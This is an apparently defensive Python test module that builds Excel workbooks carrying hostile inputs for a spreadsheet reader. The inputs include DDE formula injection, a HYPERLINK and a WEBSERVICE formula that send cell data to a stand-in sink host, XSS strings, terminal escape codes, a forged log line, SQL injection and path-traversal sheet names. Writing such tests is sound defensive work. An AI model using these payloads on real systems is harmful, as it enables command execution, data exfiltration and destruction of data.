"""Contents that some program down the line would run."""

from __future__ import annotations

from xml.sax.saxutils import escape

from tests.hostile.entry import Collection
from tests.hostile.ooxml import Book, Sheet, Value, X, simple
from tests.hostile.people import HEADER, ID, NAME, SINK, person, roster, roster_with

cases = Collection()
FORMULAS = ("=1+1", "=cmd|' /C calc'!A0", "+SUM(1,1)", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)",
            "\t=1+1", "\r=1+1", "\n=1+1", f'=HYPERLINK("http://{SINK}/?x="&A1,"点击")', "＝1+1",
            " =1+1", "'=1+1", ";=1+1", '"=1+1')  # fmt: skip
HTML = ('<script>alert("HOSTILE_XSS")</script>', '"><img src=x onerror=alert("HOSTILE_XSS")>',
        "</script><script>alert('HOSTILE_XSS')</script>", "<!--<script>",
        "${alert(1)}{{7*7}}{% raw %}", "javascript:alert('HOSTILE_XSS')", "\u2028\u2029</title>",
        "'-alert('HOSTILE_XSS')-'", "]]><x>", "&lt;script&gt;",
        "<svg/onload=alert('HOSTILE_XSS')>", "\\u003cscript\\u003e")  # fmt: skip
RICH = ("[red]红[/red]", "[/]", "[/bold]", "[link=file:///etc/passwd]x[/link]",
        "[@click=app.quit]x[/]", "\\[x", "[", "[[[[", ":warning:")  # fmt: skip
ESCAPES = ("张_x0000_三", "李_x001B_[2J_x001B_]0;HOSTILE_TITLE_x0007_四", "王_xD800_五",
           "赵_xDC00__xD800_", "钱_x000D__x000A_孙", "周_xFFFE_吴", "郑_x005F_x0041_王",
           "_x003D_1+1")  # fmt: skip
_FORGED = "\n2026-01-01 00:00:00 INFO HOSTILE_LOG"


def _five_on_each(*names: str) -> bytes:
    return Book([
        Sheet(name, [list(HEADER)] + [person(5 * i + k) for k in range(1, 6)])
        for i, name in enumerate(names)
    ]).zip()  # fmt: skip


@cases.entry("injection", "findings", rows=len(FORMULAS), canary=("<f>",))
def inj_formula_text() -> bytes:
    """Texts like formulas must stay texts in whatever is written."""
    return simple(roster_with(NAME, FORMULAS)).zip()


@cases.entry("injection", "findings", canary=(SINK,))
def inj_real_formulas() -> bytes:
    """Formulas that call out, with values; and ids that formulas compute."""
    formulas = ("cmd|'/C calc'!A0", f'WEBSERVICE("http://{SINK}/")',
                f'HYPERLINK("http://{SINK}/","x")', "'[外部.xlsx]Sheet1'!$A$1")  # fmt: skip
    rows: list[list[Value]] = [list(row) for row in roster()]
    for i, formula in enumerate(formulas, 1):
        rows[i][NAME] = X(f'<c r="{{ref}}" t="str"><f>{escape(formula)}</f><v>缓存{i}</v></c>')
    rows[5][ID] = X(f'<c r="{{ref}}" t="str"><f>"9999"&amp;"01"</f><v>{rows[5][ID]}</v></c>')
    return simple(rows).zip()


@cases.entry("injection", "findings")
def inj_formula_no_cache() -> bytes:
    """Written by a program and never opened in Excel: unknown, not empty."""
    rows: list[list[Value]] = [list(row) for row in roster()]
    for row in rows[1:]:
        row[ID] = X('<c r="{ref}"><f>"99990119"&amp;"500101"</f></c>')
    return simple(rows).zip()


@cases.entry(
    "injection", "findings", rows=len(HTML),
    canary=('<script>alert("HOSTILE_XSS")', "<img src=x onerror", "</script><script>alert",
            "<svg/onload"),
)  # fmt: skip
def inj_html_cells() -> bytes:
    return simple(roster_with(NAME, HTML)).zip()


@cases.entry(
    "injection", "ok", rows=5, canary=("<svg onload=alert(1)>", "<b onclick="),
    accept=("findings",),
)  # fmt: skip
def inj_html_sheet_name() -> bytes:
    rows = roster()
    rows[0].append("<b onclick=alert(1)>备注</b>")
    return Book([Sheet("<svg onload=alert(1)>", rows)]).zip()


@cases.entry("injection", "findings", rows=len(RICH))
def inj_rich_markup() -> bytes:
    """A closing tag of the console's own markup stops a careless print."""
    return simple(roster_with(NAME, RICH)).zip()


@cases.entry("injection", "findings", rows=len(ESCAPES), canary=("\x1b[2J", "\x1b]0;"))
def inj_x_escapes() -> bytes:
    """Readers that decode these deliver NUL, terminal codes and lone surrogates."""
    return simple(roster_with(NAME, ESCAPES)).zip()


@cases.entry("injection", "findings", rows=1, canary=(_FORGED,))
def inj_log_lines() -> bytes:
    return simple(roster_with(NAME, [f"张三{_FORGED} audit passed"])).zip()


@cases.entry("injection", "findings", rows=2)
def inj_sql() -> bytes:
    rows = roster_with(NAME, ["Robert'); DROP TABLE runs;--", "1 OR 1=1"])
    return Book([Sheet("x'); DROP TABLE runs;--", rows)]).zip()


@cases.entry(
    "injection", "ok", rows=20, accept=("clean-error", "findings"),
    canary=("HOSTILE_SHEET_PATH.",),
)  # fmt: skip
def inj_sheet_name_path() -> bytes:
    """No path may be made of a sheet's name."""
    return _five_on_each("../../../../tmp/HOSTILE_SHEET_PATH", "CON", "'=1+1", "")


@cases.entry("injection", "ok", rows=15, accept=("clean-error", "findings"))
def inj_sheet_name_long_dup() -> bytes:
    """A name of 300 characters, and two sheets of one name."""
    return _five_on_each("长" * 300, "花名册", "花名册")
